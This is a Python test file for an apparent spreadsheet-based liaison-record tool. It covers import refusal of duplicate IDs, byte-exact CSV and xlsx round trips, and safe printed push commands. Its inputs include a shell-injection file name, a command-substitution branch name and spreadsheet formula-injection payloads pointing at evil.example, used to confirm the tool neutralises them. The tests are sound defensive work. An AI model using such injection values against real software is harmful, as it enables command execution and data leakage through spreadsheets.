"""Imports that say exactly what they commit, round trips that give back every byte, and commands safe to run
(issue 27, 4-6 and issue 30, 10)."""

from __future__ import annotations

import datetime

import openpyxl
import pytest
from conftest import GIT_ENV, commit_all, git, push_options_remote
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from liaison.core.importplan import NEW, REFUSED

HEADER = ["记录编号", "领导姓名", "联系时间", "联系地点", "人员规模", "联系对象", "学生联系人", "联系内容"]
SHARED = "2023-09-01-T1-aaaaaa"


@pytest.fixture(autouse=True)
def identity(monkeypatch):
    for key, value in GIT_ENV.items():
        monkeypatch.setenv(key, value)


def _row(record_id: str, target: str, day=datetime.date(2023, 9, 1)) -> list:
    return [record_id, "赵某", day, "图书馆101", 30, target, "刘某", "座谈交流。"]


def test_rows_sharing_a_record_id_are_refused_each_named_and_the_report_equals_the_commit(
    repo, tmp_path, run, monkeypatch
):
    commit_all(repo)
    monkeypatch.chdir(tmp_path)
    book = openpyxl.Workbook()
    first = book.active
    first.title = "2023秋"
    for cells in (HEADER, _row(SHARED, "第一次座谈。"), _row(SHARED, "第二次座谈。"), _row("", "另一条。")):
        first.append(cells)
    second = book.create_sheet("补录")
    for cells in (HEADER, _row(SHARED, "第三次座谈。")):
        second.append(cells)
    path = tmp_path / "同编号.xlsx"
    book.save(path)

    result = run(repo, "import", path.name, "--branch", "import/same-id")
    assert result.exit_code == 1
    out = result.output
    assert "同编号.xlsx:第2行: 记录编号 2023-09-01-T1-aaaaaa 与 同编号.xlsx 工作表“2023秋” 第 3 行、" in out
    assert "同编号.xlsx 工作表“补录” 第 2 行 相同，内容却不同" in out
    assert "同编号.xlsx:第3行:" in out and out.count("内容却不同") == 3
    assert "已提交 1 条新记录到分支 import/same-id" in out and "3 行未导入" in out
    added = git(repo, "diff", "--name-only", "main", "import/same-id").splitlines()
    assert len(added) == 1 and SHARED not in added[0]
    assert "导入联系记录 1 条" in git(repo, "log", "-1", "--format=%B", "import/same-id")


def test_the_plan_never_holds_two_new_rows_for_one_file(repo, tmp_path):
    from conftest import record_data, write_record  # noqa: F401 - the repository is empty on purpose
    from test_import import context

    from liaison.core.importplan import plan_import

    book = openpyxl.Workbook()
    sheet = book.active
    for cells in (HEADER, _row(SHARED, "甲。"), _row(SHARED, "乙。"), _row(SHARED, "甲。")):
        sheet.append(cells)
    path = tmp_path / "a.xlsx"
    book.save(path)
    plan = plan_import([(path.name, path.read_bytes())], context(repo))
    statuses = [r.status for r in plan.files[0].rows]
    assert statuses[:2] == [REFUSED, REFUSED] and NEW not in statuses
    paths = [r.path for r in plan.new_rows]
    assert len(paths) == len(set(paths))


@pytest.mark.parametrize(
    "name", ["汇总'; touch PWNED; echo '.xlsx", "--reopen-reason=借口.xlsx"], ids=["shell", "option"]
)
def test_the_next_step_is_one_command_that_runs_as_printed_whatever_the_names(repo, tmp_path, run, monkeypatch, name):
    """A file named like shell code or like an option, a branch with $( ): the printed line, run by bash, pushes
    that file's import and runs nothing, sets no option."""
    import os
    import shutil
    import subprocess
    import sys

    from conftest import PROJECT

    shutil.copy(PROJECT / "build.py", repo / "build.py")
    commit_all(repo)
    remote = push_options_remote(repo, tmp_path)
    branch = "a$(touch${IFS}x)"
    book = openpyxl.Workbook()
    for cells in (HEADER, _row("", "国旗护卫队"), _row("", "学生会"), ["", "王五", "2023-09-01"]):
        book.active.append(cells)
    book.save(repo / name)
    monkeypatch.chdir(repo)

    result = run(repo, "import", "--branch", branch, "--", name)
    assert result.exit_code == 1 and "已提交 2 条新记录" in result.output and "1 行未导入" in result.output
    *_, intro, line = result.output.strip().splitlines()
    assert intro.startswith("下一步：推送并创建合并请求") and line.startswith("  ")
    command = line.strip()
    assert len(command) < 120 and "git push" not in command
    env = {
        **os.environ,
        **GIT_ENV,
        "PATH": f"{os.path.dirname(sys.executable)}:{os.environ['PATH']}",
        "PYTHONPATH": str(PROJECT),
        "HOME": str(tmp_path),
    }
    done = subprocess.run(["bash", "-c", command], cwd=repo, env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode == 1, done.stderr  # still partly: one row is not in the roster
    assert "已推送并请求创建合并请求" in done.stdout and "此前已由同一导入提交" in done.stdout
    assert not (repo / "PWNED").exists() and not (repo / "x").exists() and not (tmp_path / "PWNED").exists()
    assert git(remote, "rev-parse", f"refs/heads/{branch}") == git(repo, "rev-parse", f"refs/heads/{branch}")
    assert "merge_request.create" in (remote / "options.log").read_text(encoding="utf-8")
    assert "Reopen-Reason" not in git(repo, "log", "-1", "--format=%B", f"refs/heads/{branch}")


# The round trip: every value the form accepts, back byte for byte; no cell a formula -----------------------

_PROJECT_CACHE: dict = {}


def _demo():
    """The demo repository's schema, roster and config, read once (hypothesis runs many examples)."""
    if not _PROJECT_CACHE:
        from conftest import PROJECT

        from liaison.core.project import open_project

        _PROJECT_CACHE["project"] = open_project(PROJECT)
    return _PROJECT_CACHE["project"]


def _formed(target: str, content: str, remarks: str):
    """The record the form makes of these texts, or None when the form refuses them."""
    from liaison.core.records import parse_record, record_path
    from liaison.web.formfields import record_from_form

    project = _demo()
    leader = next(leader for leader in project.roster.leaders if leader.active)
    form = {
        "position": leader.position,
        "date": "2024-09-15",
        "place": "图书馆101",
        "size": "30",
        "target": target,
        "student_contact": "刘某",
        "content": content,
        "feedback": "",
        "remarks": remarks,
    }
    today = datetime.date(2025, 1, 1)
    record_id, text, _, errors = record_from_form(form, leader, project.roster, project.schema, today)
    if errors:
        return None
    record, problems = parse_record(record_path(record_id), text.encode("utf-8"), project.schema, today)
    assert record is not None and not problems
    return record


def _reimported(name: str, data: bytes):
    from liaison.core.importplan import ImportContext, plan_import

    project = _demo()
    context = ImportContext(project.schema, project.roster, datetime.date(2025, 1, 1), [])
    return plan_import([(name, data)], context)


def _table2(record) -> bytes:
    from liaison.core.semesters import resolve_range
    from liaison.outputs.workbook import build_workbook

    project = _demo()
    date_range = resolve_range(project.config.calendar, "2024-2025-1")
    stamp = datetime.datetime(2025, 2, 1, tzinfo=datetime.UTC)
    return build_workbook([record], project.roster, project.schema, project.config, date_range, stamp, "测试")


def _assert_no_formula_cell(workbook: bytes) -> None:
    import io

    book = openpyxl.load_workbook(io.BytesIO(workbook))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t")):
                    assert cell.quotePrefix, cell.coordinate


# What people type, and what spreadsheets and GitLab give a meaning to: apostrophes, formula starts, blanks.
_SPECIAL = st.sampled_from(["'", "=", "+", "-", "@", " ", "\t", "\n", "\u3000", "\xa0", "_x0041_", "''", "'="])
_ANY = st.characters(codec="utf-8", exclude_categories=("Cs", "Cc"))
TEXT = st.lists(st.one_of(_SPECIAL, _ANY, st.sampled_from(["联系", "a", "1"])), min_size=1, max_size=12).map("".join)


# 150 is what this needs: a workbook that wrote a text starting with "@" without its quote mark was caught under
# 6 of 6 seeds at 150 examples, 4 of 6 at 60.
@pytest.mark.early
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(TEXT, TEXT, TEXT)
def test_every_value_the_form_accepts_comes_back_from_table2_and_csv_byte_for_byte(target, content, remarks):
    from liaison.outputs.formats import as_csv, file_bytes

    record = _formed(target, content, remarks)
    assume(record is not None)
    workbook = _table2(record)
    _assert_no_formula_cell(workbook)
    csv_file = file_bytes(as_csv([record], _demo().schema), "csv")
    for name, data in (("表2.xlsx", workbook), ("查询.csv", csv_file)):
        plan = _reimported(name, data)
        assert [(r.status, r.raw) for r in plan.new_rows] == [(NEW, record.raw)], (name, plan.files[0].rows)
        assert plan.new_rows[0].record_id == record.id


@pytest.mark.parametrize(
    "field, value",
    [
        ("target", "'学生会"),
        ("target", "'=1+1"),
        ("content", "'开头的撇号\n第二行"),
        ("content", "  两个空格开头，末尾有制表符\t"),
        ("remarks", "\t制表符开头"),
        ("content", '=HYPERLINK("http://evil.example","点我")'),
    ],
)
def test_a_record_written_by_hand_with_edge_blanks_or_an_apostrophe_comes_back_unchanged(repo, field, value):
    """Records check accepts but the form never makes (edited in YAML): the export imports as present."""
    from conftest import record_data, write_record
    from test_import import context

    from liaison.core.importplan import PRESENT
    from liaison.core.project import open_project, read_records

    write_record(repo, record_data(**{field: value}), suffix="abc123")
    record = read_records(open_project(repo))[0][0]
    workbook = _table2(record)
    _assert_no_formula_cell(workbook)
    from liaison.core.importplan import plan_import

    plan = plan_import([("表2.xlsx", workbook)], context(repo))
    rows = [r for r in plan.files[0].rows]
    assert [r.status for r in rows] == [PRESENT], rows[0].problems


def test_a_row_typed_by_hand_is_still_trimmed(repo):
    """A sheet people typed (no 记录编号) keeps its convenience: blanks at both ends are typos."""
    from conftest import commit_all  # noqa: F401
    from test_import import context

    from liaison.core.importplan import plan_import

    book = openpyxl.Workbook()
    book.active.append(HEADER[1:])
    book.active.append([" 赵某\u3000", datetime.date(2023, 9, 1), " 图书馆101 ", 30, "国旗护卫队 ", "刘某", "座谈。 "])
    import io

    out = io.BytesIO()
    book.save(out)
    plan = plan_import([("手填.xlsx", out.getvalue())], context(repo))
    data = plan.new_rows[0].data
    assert (data["leader"], data["place"], data["target"], data["content"]) == (
        "赵某",
        "图书馆101",
        "国旗护卫队",
        "座谈。",
    )


# CSV: every file the project writes neutralises cells a spreadsheet would run ---------------------------


def test_one_function_writes_every_csv():
    from conftest import PROJECT

    writers = [
        path.relative_to(PROJECT).as_posix()
        for path in (PROJECT / "liaison").rglob("*.py")
        if "csv.writer" in path.read_text(encoding="utf-8") or "DictWriter" in path.read_text(encoding="utf-8")
    ]
    assert writers == ["liaison/outputs/formats.py"]


def test_the_import_reports_csv_runs_no_formula_in_libreoffice(repo, tmp_path, run, monkeypatch):
    import os
    import shutil
    import subprocess

    if shutil.which("soffice") is None:
        pytest.skip("libreoffice-calc (scripts/setup.sh)")
    monkeypatch.chdir(tmp_path)
    name = '=HYPERLINK("https:evil.example?"&A1,"点我").csv'  # no / in a file name
    (tmp_path / name).write_text("姓名,联系时间\n王五,2023-09-01\n", encoding="utf-8")
    result = run(repo, "import", name, "--dry-run", "--format", "csv")
    report = tmp_path / "report.csv"
    report.write_text(result.stdout, encoding="utf-8")
    assert "'=HYPERLINK" in result.stdout
    profile = tmp_path / "lo-profile"
    subprocess.run(
        ["soffice", f"-env:UserInstallation={profile.as_uri()}", "--headless", "--norestore", "--infilter=CSV:44,34,76"]
        + ["--convert-to", "xlsx", "--outdir", str(tmp_path), str(report)],
        check=True,
        capture_output=True,
        timeout=180,
        env={**os.environ, "HOME": str(tmp_path)},
    )
    book = openpyxl.load_workbook(tmp_path / "report.xlsx")
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells)
    assert any(isinstance(c.value, str) and "HYPERLINK" in c.value for c in cells)


# Where a 3,000-character text is cut into （续） rows, the cut may land on anything the text is made of.
CUT_ON = {
    "=": "=" * 3000,
    "'": "'" * 3000,
    "a space": "a " * 1500,
    "a tab": "联\t" * 1500,
    "= and a space": "= " * 1500,
    "' and a space": "' " * 1500,
    "a line of =": "\n=" * 1500,
    "all of them": ("'=+-@\t 联系。" * 400)[:3000],
    "an _x0041_ escape": "_x0041_" * 420,
}


@pytest.mark.parametrize("case", list(CUT_ON))
def test_a_long_text_cut_into_continued_rows_on_any_character_comes_back_byte_for_byte(case):
    from liaison.outputs.formats import as_csv, file_bytes

    record = _formed("学生会", CUT_ON[case], CUT_ON[case][:1000])
    assert record is not None
    workbook = _table2(record)
    _assert_no_formula_cell(workbook)
    import io

    sheet = openpyxl.load_workbook(io.BytesIO(workbook))["表2 联系内容汇总"]
    assert any(serial == "（续）" for (serial,) in sheet.iter_rows(min_row=4, max_col=1, values_only=True))
    for name, data in (("表2.xlsx", workbook), ("查询.csv", file_bytes(as_csv([record], _demo().schema), "csv"))):
        plan = _reimported(name, data)
        assert [(r.status, r.raw) for r in plan.new_rows] == [(NEW, record.raw)], (name, plan.files[0].rows[:2])
